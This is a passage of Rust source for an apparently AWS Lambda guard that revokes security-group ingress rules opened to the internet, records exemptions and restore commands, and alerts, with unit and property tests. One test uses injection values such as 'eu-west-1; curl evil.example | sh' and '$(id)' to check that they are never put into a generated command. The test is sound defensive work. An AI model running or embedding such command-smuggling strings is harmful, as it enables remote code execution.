        self.visibility
            .as_ref()
            .map_or_else(OffsetDateTime::now_utc, |v| v.clock.now())
    }

    /// Whether something missing now is gone for good: always without
    /// [`Visibility`]; else once the call is `settle` old.
    fn absence_proven(&self, event: &Event) -> bool {
        let Some(v) = &self.visibility else {
            return true;
        };
        v.proof_at(event).is_some_and(|at| v.clock.now() >= at)
    }

    /// Waits one `poll` before the next read, when this invocation may still
    /// wait (at most `wait` from `started`, never past the time absence
    /// becomes proof, and with time kept for the calls after it before
    /// Lambda's deadline): false when it may not.
    async fn wait_to_read_again(&self, event: &Event, started: OffsetDateTime) -> bool {
        let Some(v) = &self.visibility else {
            return false;
        };
        let until = match v.proof_at(event) {
            Some(at) => at.min(started + v.wait),
            None => started + v.wait,
        };
        let now = v.clock.now();
        if now >= until
            || self
                .deadline
                .is_some_and(|d| Instant::now() + ONE_CALL + v.poll > d)
        {
            return false;
        }
        let left = Duration::try_from(until - now).unwrap_or_default();
        v.clock.sleep(v.poll.min(left)).await;
        true
    }

    /// The group, read again while it may not be visible yet: `None` only
    /// once its absence is proof; before, a retryable `NotYetVisible`.
    async fn group_until_visible(
        &self,
        event: &Event,
        group_id: &str,
    ) -> Result<Option<GroupInfo>, AwsError> {
        let mut group = self.groups.group(group_id).await?;
        let started = self.now();
        while group.is_none()
            && !self.absence_proven(event)
            && self.wait_to_read_again(event, started).await
        {
            group = self.groups.group(group_id).await?;
        }
        if group.is_none() && !self.absence_proven(event) {
            warn!(event_id = %event.id, group_id = %group_id, "group not visible yet");
            return Err(not_yet_visible("DescribeSecurityGroups", group_id));
        }
        Ok(group)
    }

    /// Judges an active tag exemption from the day the tag was set, when the
    /// state table saw it set to the value the group carries now: a tag
    /// whose expiry lay beyond the window then is invalid for good (DESIGN
    /// §7.12).
    async fn judge_tag_from_when_set(
        &self,
        event: &Event,
        group: &GroupInfo,
        report: &mut Report,
        today: Date,
    ) -> Result<(), AwsError> {
        let by_tag = format!("tag {}", self.policy.exemption_tag_key);
        let active_tag = report
            .exemption
            .as_ref()
            .is_some_and(|m| m.is_active() && m.source == by_tag);
        let (true, Some(log)) = (active_tag, self.revocations) else {
            return Ok(());
        };
        let Some((_, value)) = group
            .tags
            .iter()
            .find(|(k, _)| k == &self.policy.exemption_tag_key)
        else {
            return Ok(());
        };
        if let Some((seen, set_on)) = log
            .exemption_tag_set(&event.account, &event.region, &group.group_id)
            .await?
        {
            if &seen == value {
                report.exemption = Some(self.policy.tag_exemption_set_on(value, set_on, today));
            }
        }
        Ok(())
    }

    /// Keeps, for each group an exemption tag event sets the tag on, the
    /// value and the day it was set. A table that cannot be written is
    /// said in the alert; a throttled one fails the invocation (retried).
    async fn record_exemption_tag(
        &self,
        event: &Event,
        report: &mut Report,
        today: Date,
    ) -> Result<(), AwsError> {
        let (Some(log), Some(change)) = (self.revocations, &report.exemption_tag) else {
            return Ok(());
        };
        let (TagAction::Set, Some(value)) = (change.action, &change.value) else {
            return Ok(());
        };
        let set_on = event_date(event).unwrap_or(today).min(today);
        let mut problems = Vec::new();
        for group in &change.groups {
            match log
                .record_exemption_tag(&event.account, &event.region, group, value, set_on)
                .await
            {
                Ok(()) => {}
                Err(e) if e.retryable => return Err(e),
                Err(e) => {
                    warn!(event_id = %event.id, group_id = %group, error = %e, "cannot record the exemption tag");
                    problems.push(format!(
                        "{group}: could not record in the state table when the exemption tag was set ({}): its expiry window will be judged from the day the group is next judged",
                        e.code_or_kind()
                    ));
                }
            }
        }
        report.notes.extend(problems);
        Ok(())
    }

    /// Keeps every ingress rule of the event left in place as it is now (the
    /// command that authorizes it again), so that when a later
    /// ModifySecurityGroupRules changes it and it is revoked, the alert can
    /// offer it back as it was. Best effort: a failure is logged.
    async fn remember_rules(&self, event: &Event, change: &SgChange, report: &Report) {
        let (Some(log), Some(group_id)) = (self.revocations, change.group_id.as_deref()) else {
            return;
        };
        for rule in &change.rules {
            let Some(id) = rule.rule_id.as_deref() else {
                continue;
            };
            let revoked = report
                .outcomes
                .iter()
                .any(|o| o.rule_id == id && o.result == OutcomeKind::Revoked);
            if rule.direction != Direction::Ingress || revoked {
                continue;
            }
            let Some(command) = restore_command(&event.region, group_id, rule) else {
                continue;
            };
            if let Err(e) = log
                .record_rule(&event.account, &event.region, group_id, id, &command)
                .await
            {
                warn!(event_id = %event.id, rule_id = %id, error = %e, "cannot record the rule as seen");
            }
        }
    }
}

impl IngressGuard<'_> {
    /// Adds what only EC2 can say about the change's context: the group's
    /// name when the record lacks it and `read_name` (EC2-SG-010,
    /// DescribeSecurityGroups), and what the prefix lists its rules reference
    /// hold (a list that cannot be read is unknown, and said). A list already
    /// read is not read again.
    async fn enrich(
        &self,
        event: &Event,
        mut change: SgChange,
        read_name: bool,
        report: &mut Report,
    ) -> Result<SgChange, AwsError> {
        let name_matters = DEFAULT_GROUP.setting(self.policy).action != Action::Off;
        if let (true, true, None, Some(group_id)) = (
            read_name,
            name_matters,
            &change.group_name,
            change.group_id.clone(),
        ) {
            match self.groups.group(&group_id).await {
                Ok(Some(group)) => change = change.with_group_name(&group.name),
                Ok(None) => report.notes.push(format!(
                    "{group_id} no longer exists: whether it was a VPC default group (EC2-SG-010) is unknown"
                )),
                Err(e) if e.retryable => return Err(e),
                Err(e) => {
                    change.group_name_unread = true;
                    warn!(event_id = %event.id, group_id = %group_id, error = %e, "cannot read the group's name");
                    report.notes.push(format!(
                        "could not read {group_id}'s name ({}): whether it is a VPC default group (EC2-SG-010) is unknown",
                        e.code_or_kind()
                    ));
                }
            }
        }
        for list in change.prefix_list_ids() {
            if let Entry::Vacant(slot) = change.prefix_lists.entry(list) {
                let read = self.read_prefix_list(event, slot.key(), report).await?;
                slot.insert(read);
            }
        }
        Ok(change)
    }

    /// What a prefix list holds. One that cannot be read is unknown (said
    /// in the report), never clean: a rule through it is never revoked.
    async fn read_prefix_list(
        &self,
        event: &Event,
        list_id: &str,
        report: &mut Report,
    ) -> Result<PrefixListEntries, AwsError> {
        match self.groups.prefix_list(list_id).await {
            Ok(entries) => Ok(entries),
            Err(e) if e.retryable => Err(e),
            Err(e) => {
                warn!(event_id = %event.id, prefix_list = %list_id, error = %e, "cannot read the prefix list");
                report.notes.push(format!(
                    "could not read prefix list {list_id} ({}): what it holds is unknown; a rule through it is not judged open to the internet and is never revoked",
                    e.code_or_kind()
                ));
                Ok(PrefixListEntries::Unknown(e.code_or_kind()))
            }
        }
    }

    /// A `ModifyManagedPrefixList` call: the entries it added that open
    /// whatever references the list to the internet, and the security groups
    /// that reference it (GetManagedPrefixListAssociations). Notify only:
    /// nothing is revoked on this event. A record that cannot be read is said
    /// so, and the list as it is now is judged instead.
    async fn prefix_list_change(&self, event: &Event) -> Result<Report, AwsError> {
        let mut report = Report::for_event(event);
        let change = match PrefixListChange::from_event(event) {
            Ok(Some(change)) => change,
            Ok(None) => return Ok(Report::not_handled(event)),
            Err(field) => {
                warn!(event_id = %event.id, field = %field.path, problem = %field.problem, "could not evaluate");
                report.unevaluated = Some(field.to_string());
                let Some(list_id) = crate::model::sg::prefix_list_named(event) else {
                    report.notes.push(
                        "the record names no prefix list: nothing could be read instead"
                            .to_string(),
                    );
                    return Ok(report);
                };
                report.resource = Some(format!("prefix list {list_id}"));
                match self.read_prefix_list(event, &list_id, &mut report).await? {
                    PrefixListEntries::Read(entries) => {
                        report.notes.push(format!(
                            "judged {list_id}'s current entries instead (GetManagedPrefixListEntries)"
                        ));
                        PrefixListChange {
                            list_id,
                            list_name: None,
                            added: entries,
                        }
                    }
                    _ => return Ok(report),
                }
            }
        };
        report.resource = Some(change.resource());
        if prefix_list_finding(&change, self.policy, None).is_none() {
            return Ok(report);
        }
        let referencing = match self.groups.groups_referencing(&change.list_id).await {
            Ok(groups) => Some(groups),
            Err(e) if e.retryable => return Err(e),
            Err(e) => {
                warn!(event_id = %event.id, prefix_list = %change.list_id, error = %e, "cannot read the list's associations");
                report.notes.push(format!(
                    "could not read which security groups reference {} ({}): unknown, alerted as if some did",
                    change.list_id,
                    e.code_or_kind()
                ));
                None
            }
        };
        report.findings.extend(prefix_list_finding(
            &change,
            self.policy,
            referencing.as_deref(),
        ));
        for f in &report.findings {
            info!(event_id = %event.id, rule = f.rule, severity = %f.severity, detail = %f.detail, "finding");
        }
        Ok(report)
    }

    /// What an earlier attempt of this event did to the rule, from the state
    /// table. A table that cannot be read is noted: the rule's absence is
    /// then judged as if no attempt had been made.
    async fn earlier_attempt(
        &self,
        event: &Event,
        rule_id: &str,
        report: &mut Report,
    ) -> Result<Option<Attempt>, String> {
        let Some(log) = self.revocations else {
            return Ok(None);
        };
        match log.earlier_attempt(attempt_key(event, rule_id)).await {
            Ok(attempt) => Ok(attempt),
            Err(e) => {
                warn!(event_id = %event.id, rule_id = %rule_id, error = %e, "cannot read the state table");
                report.notes.push(format!(
                    "{rule_id}: could not read the state table ({}): whether an earlier attempt revoked it is unknown, so it is not reported already absent",
                    e.code_or_kind()
                ));
                Err(e.code_or_kind())
            }
        }
    }

    /// Records an attempt for retries of the event: the intent before the
    /// call, what came of it after. A failure is noted, not fatal: the rule
    /// is revoked whatever the table says, and the alert must still go out.
    async fn log_attempt(
        &self,
        event: &Event,
        group_id: &str,
        rule_id: &str,
        state: AttemptState,
        restore: Option<&str>,
        report: &mut Report,
    ) {
        let Some(log) = self.revocations else {
            return;
        };
        if let Err(e) = log
            .record_attempt(attempt_key(event, rule_id), group_id, state, restore)
            .await
        {
            warn!(event_id = %event.id, rule_id = %rule_id, state = state.as_str(), error = %e, "cannot record the attempt");
            if state == AttemptState::Intended {
                report.notes.push(format!(
                    "{rule_id}: could not record the revoke in the state table before the call ({}): a retry after it would report the rule already absent",
                    e.code_or_kind()
                ));
            }
        }
    }
}

fn attempt_key<'a>(event: &'a Event, rule_id: &'a str) -> AttemptKey<'a> {
    AttemptKey {
        account: &event.account,
        region: &event.region,
        event_id: &event.id,
        rule_id,
    }
}

fn outcome(rule_id: String, result: OutcomeKind, error_code: Option<String>) -> Outcome {
    Outcome {
        restore: Default::default(),
        rule_id,
        result,
        error_code,
        earlier_attempt: false,
    }
}

/// True when only the stored rules can settle the verdict: a source that did
/// not parse, a modified rule (its direction, for every finding), or a
/// revocation that lacks a rule id.
fn needs_stored_rules(change: &SgChange, plan: Option<&Plan>) -> bool {
    change.rules.iter().any(|r| {
        r.direction == Direction::Unverified
            || (r.rule_id.is_some() && matches!(r.source, Source::Unparsed(_)))
    }) || plan.is_some_and(|p| p.revocations.iter().any(|r| r.rule.rule_id.is_none()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_restore_command_authorizes_exactly_what_was_revoked() {
        let rule = |protocol: &str, from: Option<i64>, to: Option<i64>, source: Source| SgRule {
            rule_id: Some("sgr-1".into()),
            direction: Direction::Ingress,
            ip_protocol: protocol.into(),
            protocol: crate::model::net::Protocol::parse(protocol).unwrap(),
            from_port: from,
            to_port: to,
            source,
            description: None,
        };
        let cmd = |r: &SgRule| restore_command("eu-west-1", "sg-1", r).unwrap();
        assert_eq!(
            cmd(&rule("tcp", Some(22), Some(22), Source::cidr("0.0.0.0/0"))),
            r#"aws ec2 authorize-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions '[{"FromPort":22,"IpProtocol":"tcp","IpRanges":[{"CidrIp":"0.0.0.0/0"}],"ToPort":22}]'"#
        );
        // The protocol as written, IPv6, every port of every protocol.
        assert!(
            cmd(&rule("6", Some(3389), Some(3389), Source::cidr("::/0")))
                .contains(r#""IpProtocol":"6","Ipv6Ranges":[{"CidrIpv6":"::/0"}]"#)
        );
        assert!(
            cmd(&rule("-1", Some(-1), Some(-1), Source::cidr("0.0.0.0/0")))
                .contains(r#"'[{"IpProtocol":"-1","IpRanges""#)
        );
        assert!(cmd(&rule(
            "tcp",
            Some(0),
            Some(65535),
            Source::PrefixList("pl-1".into())
        ))
        .contains(r#""PrefixListIds":[{"PrefixListId":"pl-1"}]"#));
        let pair = Source::Group {
            group_id: Some("sg-9".into()),
            user_id: Some("444455556666".into()),
        };
        assert!(cmd(&rule("udp", Some(53), Some(53), pair))
            .contains(r#""UserIdGroupPairs":[{"GroupId":"sg-9","UserId":"444455556666"}]"#));
        assert_eq!(
            restore_command(
                "eu-west-1",
                "sg-1",
                &rule("tcp", Some(22), Some(22), Source::Unparsed("x".into()))
            ),
            None,
            "EC2 would not take it back"
        );
        let ssh = rule("tcp", Some(22), Some(22), Source::cidr("0.0.0.0/0"));
        for (region, group) in [
            ("eu-west-1; curl evil.example | sh", "sg-1"),
            ("eu-west-1", "sg-1 $(id)"),
            ("eu-west-1", ""),
        ] {
            assert_eq!(
                restore_command(region, group, &ssh),
                None,
                "{region:?} {group:?} is never put in a command"
            );
        }
        // The description goes back with the range.
        let described = SgRule {
            description: Some("office VPN".into()),
            ..rule("tcp", Some(22), Some(22), Source::cidr("0.0.0.0/0"))
        };
        assert!(cmd(&described)
            .contains(r#""IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"office VPN"}]"#));
        // A quote inside the JSON stays inside the single quotes.
        let quoted = Source::Group {
            group_id: Some("sg-'x".into()),
            user_id: None,
        };
        assert!(cmd(&rule("tcp", Some(22), Some(22), quoted)).contains(r#""GroupId":"sg-'\''x""#));
    }
    use crate::output::notify::Notification;
    use crate::ports::fakes::{MemoryGroups, MemoryNotifier};
    use crate::ports::GroupInfo;
    use serde_json::{json, Value};
    use time::macros::date;

    const TODAY: Date = date!(2026 - 06 - 01);

    /// The embedded policy with revocation on (it is dry-run by default).
    fn revoking() -> Policy {
        let mut policy = Policy::embedded();
        policy.dry_run = false;
        policy
    }

    fn stored(id: &str, port: i64, cidr: &str, direction: Direction) -> SgRule {
        SgRule {
            rule_id: Some(id.to_string()),
            direction,
            ip_protocol: "tcp".to_string(),
            protocol: crate::model::net::Protocol::Tcp,
            from_port: Some(port),
            to_port: Some(port),
            source: Source::cidr(cidr),
            description: None,
        }
    }

    fn groups(tags: &[(&str, &str)]) -> MemoryGroups {
        MemoryGroups {
            info: Some(GroupInfo {
                group_id: "sg-1".to_string(),
                name: "web".to_string(),
                vpc_id: Some("vpc-1".to_string()),
                tags: tags
                    .iter()
                    .map(|(k, v)| (k.to_string(), v.to_string()))
                    .collect(),
            }),
            rules: std::sync::Mutex::new(vec![
                stored("sgr-ssh", 22, "0.0.0.0/0", Direction::Ingress),
                stored("sgr-https", 443, "0.0.0.0/0", Direction::Ingress),
                stored("sgr-out", 22, "0.0.0.0/0", Direction::Egress),
            ]),
            ..MemoryGroups::default()
        }
    }

    fn item(id: &str, port: i64) -> Value {
        json!({"groupId": "sg-1", "securityGroupRuleId": id, "isEgress": false, "ipProtocol": "tcp",
               "fromPort": port, "toPort": port, "cidrIpv4": "0.0.0.0/0"})
    }

    fn event(name: &str, request: Value, response: Value, error: Option<&str>) -> Event {
        let mut record = json!({"eventID": "ev-1", "eventName": name, "recipientAccountId": "111122223333",
            "awsRegion": "eu-west-1", "requestParameters": request, "responseElements": response,
            "userIdentity": {"arn": "arn:aws:sts::111122223333:assumed-role/Dev/jane",
                "sessionContext": {"sessionIssuer": {"arn": "arn:aws:iam::111122223333:role/Dev"}}}});
        if let Some(code) = error {
            record["errorCode"] = json!(code);
        }
        Event::from_value(&record, "test").unwrap()
    }

    fn mixed() -> Event {
        event(
            sg::AUTHORIZE_INGRESS,
            json!({"groupId": "sg-1"}),
            json!({"securityGroupRuleSet": {"items": [item("sgr-ssh", 22), item("sgr-https", 443)]}}),
            None,
        )
    }

    async fn run(
        groups: &MemoryGroups,
        policy: &Policy,
        settings: &GuardSettings,
        event: &Event,
    ) -> (Result<Report, GuardError>, Vec<Notification>) {
        let notifier = MemoryNotifier::default();
        let guard = IngressGuard {
            groups,
            organizations: None,
            remediator: groups,
            revocations: None,
            notifier: &notifier,
            policy,
            settings,
            deadline: None,
            visibility: None,
        };
        let result = guard.handle(event, TODAY).await;
        let sent = notifier.sent.lock().unwrap().clone();
        (result, sent)
    }

    fn ids(groups: &MemoryGroups) -> Vec<String> {
        groups
            .rules
            .lock()
            .unwrap()
            .iter()
            .filter_map(|r| r.rule_id.clone())
            .collect()
    }

    fn results(report: &Report) -> Vec<(String, OutcomeKind)> {
        report
            .outcomes
            .iter()
            .map(|o| (o.rule_id.clone(), o.result))
            .collect()
    }

    use crate::model::sg;

    #[tokio::test]
    async fn revokes_exactly_the_offending_rule_then_is_idempotent() {
        let g = groups(&[]);
        let policy = revoking();
        let settings = GuardSettings::default();
        let (report, sent) = run(&g, &policy, &settings, &mixed()).await;
        let report = report.unwrap();
        assert_eq!(
            results(&report),
            vec![("sgr-ssh".to_string(), OutcomeKind::Revoked)]
        );
        assert_eq!(ids(&g), vec!["sgr-https", "sgr-out"]);
        assert_eq!(sent.len(), 1);
        assert!(
            sent[0]
                .subject
                .starts_with("[REVOKED] [CRITICAL] SSH (22) open to the internet on sg-1"),
            "{}",
            sent[0].subject
        );

        let (again, sent) = run(&g, &policy, &settings, &mixed()).await;
        assert_eq!(
            results(&again.unwrap()),
            vec![("sgr-ssh".to_string(), OutcomeKind::AlreadyAbsent)]
        );
        assert_eq!(sent.len(), 1);
    }

    #[tokio::test]
    async fn dry_run_and_exemptions_revoke_nothing() {
        let settings = GuardSettings::default();
        let mut policy = revoking();
        policy.dry_run = true;
        let g = groups(&[]);
        let (report, sent) = run(&g, &policy, &settings, &mixed()).await;
        assert_eq!(
            results(&report.unwrap()),
            vec![("sgr-ssh".to_string(), OutcomeKind::DryRun)]
        );
        assert!(g.revoke_calls.lock().unwrap().is_empty());
        assert!(sent[0].message.contains("would revoke"));

        let policy = revoking();
        let g = groups(&[(
            "access-guard:exempt",
            "public bastion SEC-42;expires=2026-08-01",
        )]);
        let (report, sent) = run(&g, &policy, &settings, &mixed()).await;
        let report = report.unwrap();
        assert_eq!(
            results(&report),
            vec![("sgr-ssh".to_string(), OutcomeKind::Exempt)]
        );
        assert!(g.revoke_calls.lock().unwrap().is_empty());
        assert!(sent[0].message.contains("public bastion SEC-42"));

        let g = groups(&[("access-guard:exempt", "old bastion;expires=2026-01-01")]);
        let (report, sent) = run(&g, &policy, &settings, &mixed()).await;
        let report = report.unwrap();
        assert_eq!(
            results(&report),
            vec![("sgr-ssh".to_string(), OutcomeKind::Revoked)]
        );
        assert!(
            sent[0].message.contains("EXPIRED"),
            "an expired exemption is reported"
        );
    }

    #[tokio::test]
    async fn retryable_failures_fail_the_invocation_others_are_reported() {
        let settings = GuardSettings::default();
        let policy = revoking();
        let mut g = groups(&[]);
        g.revoke_error = Some(AwsError {
            operation: "RevokeSecurityGroupIngress",
            code: Some("RequestLimitExceeded".to_string()),
            message: "slow down".to_string(),
            retryable: true,
        });
        let (result, sent) = run(&g, &policy, &settings, &mixed()).await;
        assert!(matches!(result, Err(GuardError::Aws { .. })));
        assert!(sent.is_empty(), "the retry alerts, not this attempt");

        g.revoke_error = Some(AwsError {
            operation: "RevokeSecurityGroupIngress",
            code: Some("UnauthorizedOperation".to_string()),
            message: "denied".to_string(),
            retryable: false,
        });
        let (result, sent) = run(&g, &policy, &settings, &mixed()).await;
        let report = result.unwrap();
        assert_eq!(report.outcomes[0].result, OutcomeKind::Failed);
        assert_eq!(
            report.outcomes[0].error_code.as_deref(),
            Some("UnauthorizedOperation")
        );
        assert_eq!(sent.len(), 1);
    }

    #[tokio::test]
    async fn own_calls_failed_calls_and_other_events_are_skipped() {
        let policy = revoking();
        let g = groups(&[]);
        let settings = GuardSettings {
            own_role_arn: Some("arn:aws:iam::111122223333:role/Dev".to_string()),
            ..GuardSettings::default()
        };
        let (report, _) = run(&g, &policy, &settings, &mixed()).await;
        assert!(report.unwrap().skipped.unwrap().starts_with("own call"));

        let settings = GuardSettings::default();
        let failed = event(
            sg::AUTHORIZE_INGRESS,
            json!({"groupId": "sg-1"}),
            Value::Null,
            Some("Client.UnauthorizedOperation"),
        );
        let (report, sent) = run(&g, &policy, &settings, &failed).await;
        assert_eq!(
            report.unwrap().skipped.as_deref(),
            Some("failed call: Client.UnauthorizedOperation")
        );
        assert!(sent.is_empty());
        assert_eq!(ids(&g).len(), 3);
    }

    #[tokio::test]
    async fn modify_is_verified_and_older_records_resolve_rule_ids() {
        let policy = revoking();
        let settings = GuardSettings::default();
        let g = groups(&[]);
        // The modified rule is really egress: never revoked.
        let modify = event(
            sg::MODIFY_RULES,
            json!({"ModifySecurityGroupRulesRequest": {"GroupId": "sg-1", "SecurityGroupRule": {
                "SecurityGroupRuleId": "sgr-out", "SecurityGroupRule": {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "CidrIpv4": "0.0.0.0/0"}}}}),
            json!({}),
            None,
        );
        let (report, sent) = run(&g, &policy, &settings, &modify).await;
        assert!(report.unwrap().findings.is_empty());
        assert!(sent.is_empty());
        assert_eq!(ids(&g).len(), 3);

        // An older record without rule ids: the stored rule is found and revoked by id.
        let older = event(
            sg::AUTHORIZE_INGRESS,
            json!({"groupId": "sg-1", "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22,
                "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}}),
            json!({"_return": true}),
            None,
        );
        let (report, _) = run(&g, &policy, &settings, &older).await;
        assert_eq!(
            results(&report.unwrap()),
            vec![("sgr-ssh".to_string(), OutcomeKind::Revoked)]
        );
        assert_eq!(ids(&g), vec!["sgr-https", "sgr-out"]);
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(128))]
        /// For arbitrary groups and events: revocations ⊆ the rules this event
        /// created that break a revoke rule; never egress, never a rule the event
        /// did not create, never another group, never more than the cap; an
        /// exempt group is untouched.
        #[test]
        fn revocations_are_safe(
            stored in proptest::collection::vec((proptest::prop_oneof![
                proptest::strategy::Just(22u16), proptest::strategy::Just(3389), proptest::strategy::Just(3306), proptest::strategy::Just(6379),
                proptest::strategy::Just(443), proptest::strategy::Just(80), proptest::strategy::Just(0), 1u16..4000], proptest::prop_oneof![0u16..3, proptest::strategy::Just(2000)], proptest::prop_oneof![
                proptest::strategy::Just("0.0.0.0/0"), proptest::strategy::Just("::/0"), proptest::strategy::Just("10.0.0.0/8"),
                proptest::strategy::Just("0.0.0.0/1"), proptest::strategy::Just("203.0.113.0/24")], proptest::bool::ANY), 1..40),
            created_mask in proptest::collection::vec(proptest::bool::ANY, 40),
            cap in 1usize..6,
            exempt in proptest::bool::ANY,
            dry_run in proptest::bool::ANY,
        ) {
            let rules: Vec<SgRule> = stored.iter().enumerate().map(|(i, (port, span, cidr, egress))| SgRule {
                rule_id: Some(format!("sgr-{i}")),
                direction: if *egress { Direction::Egress } else { Direction::Ingress },
                ip_protocol: "tcp".into(),
                protocol: crate::model::net::Protocol::Tcp,
                from_port: Some(i64::from(*port)),
                to_port: Some(i64::from(*port + span)),
                source: Source::cidr(cidr),
                description: None,
            }).collect();
            // The event created some of the group's ingress rules; the others existed before.
            let created: Vec<&SgRule> = rules.iter().enumerate()
                .filter(|(i, r)| created_mask[*i] && r.direction == Direction::Ingress).map(|(_, r)| r).collect();
            let items: Vec<Value> = created.iter().map(|r| json!({"groupId": "sg-1", "securityGroupRuleId": r.rule_id,
                "isEgress": false, "ipProtocol": "tcp", "fromPort": r.from_port, "toPort": r.to_port, "cidrIpv4": r.source.to_string()})).collect();
            let e = event(sg::AUTHORIZE_INGRESS, json!({"groupId": "sg-1"}), json!({"securityGroupRuleSet": {"items": items}}), None);
            let tags: &[(&str, &str)] = if exempt { &[("access-guard:exempt", "proptest;expires=2026-07-01")] } else { &[] };
            let g = groups(tags);
            *g.rules.lock().unwrap() = rules.clone();
            let mut policy = revoking();
            policy.max_revocations_per_event = cap;
            policy.dry_run = dry_run;
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
            let (report, _) = runtime.block_on(run(&g, &policy, &GuardSettings::default(), &e));
            let report = report.unwrap();
            // Every rule id asked for, over all calls (a batch names several).
            let calls: Vec<String> = g.revoke_calls.lock().unwrap().iter()
                .flat_map(|call| {
                    let (group, ids) = call.split_once('/').unwrap();
                    ids.split(',').map(move |id| format!("{group}/{id}"))
                })
                .collect::<std::collections::BTreeSet<_>>()
                .into_iter()
                .collect();
            let offending: Vec<String> = report.findings.iter()
                .filter(|f| f.action == crate::finding::Action::Revoke)
                .filter_map(|f| created.get(f.target?).and_then(|r| r.rule_id.clone()))
                .collect();
            proptest::prop_assert!(calls.len() <= cap);
            if exempt || dry_run {
                proptest::prop_assert!(calls.is_empty());
            }
            for call in &calls {
                let (group, id) = call.split_once('/').unwrap();
                proptest::prop_assert_eq!(group, "sg-1");
                proptest::prop_assert!(offending.iter().any(|o| o == id), "{} was not created by the event and offending", id);
                let rule = rules.iter().find(|r| r.rule_id.as_deref() == Some(id)).unwrap();
                proptest::prop_assert_eq!(rule.direction, Direction::Ingress);
            }
        }
    }

    #[tokio::test]
    async fn findings_below_the_threshold_do_not_alert() {
        let mut policy = revoking();
        policy.notify_min_severity = crate::finding::Severity::Critical;
        let settings = GuardSettings::default();
        let g = groups(&[]);
        let custom = event(
            sg::AUTHORIZE_INGRESS,
            json!({"groupId": "sg-1"}),
            json!({"securityGroupRuleSet": {"items": [item("sgr-8443", 8443)]}}),
            None,
        );
        let (report, sent) = run(&g, &policy, &settings, &custom).await;
        assert_eq!(report.unwrap().findings[0].rule, "EC2-SG-007");
        assert!(sent.is_empty());
    }

    fn narrowed(id: &str, port: i64) -> SgRule {
        stored(id, port, "10.0.0.0/8", Direction::Ingress)
    }

    #[tokio::test]
    async fn a_rule_narrowed_since_the_event_is_not_revoked() {
        let g = groups(&[]);
        g.rules.lock().unwrap()[0] = narrowed("sgr-ssh", 22);
        let policy = revoking();
        let (report, sent) = run(&g, &policy, &GuardSettings::default(), &mixed()).await;
        let report = report.unwrap();
        assert_eq!(
            results(&report),
            vec![("sgr-ssh".to_string(), OutcomeKind::ChangedSince)]
        );
        assert!(
            g.revoke_calls.lock().unwrap().is_empty(),
            "nothing revoked on stale evidence"
        );
        assert!(sent[0].message.contains("no longer breaks a revoke rule"));
        assert!(sent[0].message.contains("10.0.0.0/8"));
    }

    #[tokio::test]
    async fn offending_rules_go_in_one_call_and_one_by_one_when_ec2_rejects_the_batch() {
        let event = event(
            sg::AUTHORIZE_INGRESS,
            json!({"groupId": "sg-1"}),
            json!({"securityGroupRuleSet": {"items": [item("sgr-ssh", 22), item("sgr-rdp", 3389), item("sgr-https", 443)]}}),
            None,
        );
        let policy = revoking();
        for reject in [false, true] {
            let mut g = groups(&[]);
            g.rules
                .lock()
                .unwrap()
                .push(stored("sgr-rdp", 3389, "0.0.0.0/0", Direction::Ingress));
            g.reject_batches = reject;
            let (report, _) = run(&g, &policy, &GuardSettings::default(), &event).await;
            let report = report.unwrap();
            assert_eq!(
                results(&report),
                vec![
                    ("sgr-ssh".to_string(), OutcomeKind::Revoked),
                    ("sgr-rdp".to_string(), OutcomeKind::Revoked)
                ],
                "reject batches: {reject}"
            );
            let calls = g.revoke_calls.lock().unwrap().clone();
            let want: &[&str] = if reject {
                &["sg-1/sgr-ssh,sgr-rdp", "sg-1/sgr-ssh", "sg-1/sgr-rdp"]
            } else {
                &["sg-1/sgr-ssh,sgr-rdp"]
            };
            assert_eq!(calls, want);
            assert_eq!(ids(&g), vec!["sgr-https", "sgr-out"]);
        }
    }

    fn denied(operation: &'static str) -> AwsError {
        AwsError {
            operation,
            code: Some("UnauthorizedOperation".to_string()),
            message: "denied".to_string(),
            retryable: false,
        }
    }

    fn modify(rule_id: &str, port: i64) -> Event {
        event(
            sg::MODIFY_RULES,
            json!({"ModifySecurityGroupRulesRequest": {"GroupId": "sg-1", "SecurityGroupRule": {
                "SecurityGroupRuleId": rule_id, "SecurityGroupRule": {"IpProtocol": "tcp", "FromPort": port, "ToPort": port, "CidrIpv4": "0.0.0.0/0"}}}}),
            json!({}),
            None,
        )
    }

    #[tokio::test]
    async fn every_modified_rule_is_verified_and_an_unverifiable_one_still_alerts() {
        let policy = revoking();
        let settings = GuardSettings::default();
        // An egress rule modified to a notify-only port: verified, not judged as ingress.
        let g = groups(&[]);
        g.rules.lock().unwrap()[2] = stored("sgr-out", 8443, "0.0.0.0/0", Direction::Egress);
        let (report, sent) = run(&g, &policy, &settings, &modify("sgr-out", 8443)).await;
        assert!(
            report.unwrap().findings.is_empty(),
            "egress is never an ingress finding"
        );
        assert!(sent.is_empty());

        // The direction cannot be read: judged as ingress, alerted, said, nothing revoked.
        let mut g = groups(&[]);
        g.rules_error = Some(denied("DescribeSecurityGroupRules"));
        let (report, sent) = run(&g, &policy, &settings, &modify("sgr-ssh", 22)).await;
        let report = report.unwrap();
        assert_eq!(report.findings[0].rule, "EC2-SG-003");
        assert!(g.revoke_calls.lock().unwrap().is_empty());
        assert_eq!(sent.len(), 1);
        assert!(
            sent[0].message.contains("unverified")
                && sent[0].message.contains("UnauthorizedOperation"),
            "{}",
            sent[0].message
        );

        // The modified rule is gone: still alerted, said, not revoked.
        let g = groups(&[]);
        let (report, sent) = run(&g, &policy, &settings, &modify("sgr-gone", 3389)).await;
        let report = report.unwrap();
        assert_eq!(report.findings[0].rule, "EC2-SG-004");
        assert!(sent[0]
            .message
            .contains("no longer exists: its direction cannot be verified"));
        assert!(g.revoke_calls.lock().unwrap().is_empty());
    }

    #[tokio::test]
    async fn a_record_with_no_rule_to_judge_alerts_could_not_evaluate_and_judges_the_group() {
        let g = groups(&[]);
        let policy = revoking();
        let hollow = event(
            sg::AUTHORIZE_INGRESS,
            json!({"groupId": "sg-1", "ipPermissions": {}}),
            json!({"_return": true}),
            None,
        );
        let (report, sent) = run(&g, &policy, &GuardSettings::default(), &hollow).await;
        let report = report.unwrap();
        assert!(report
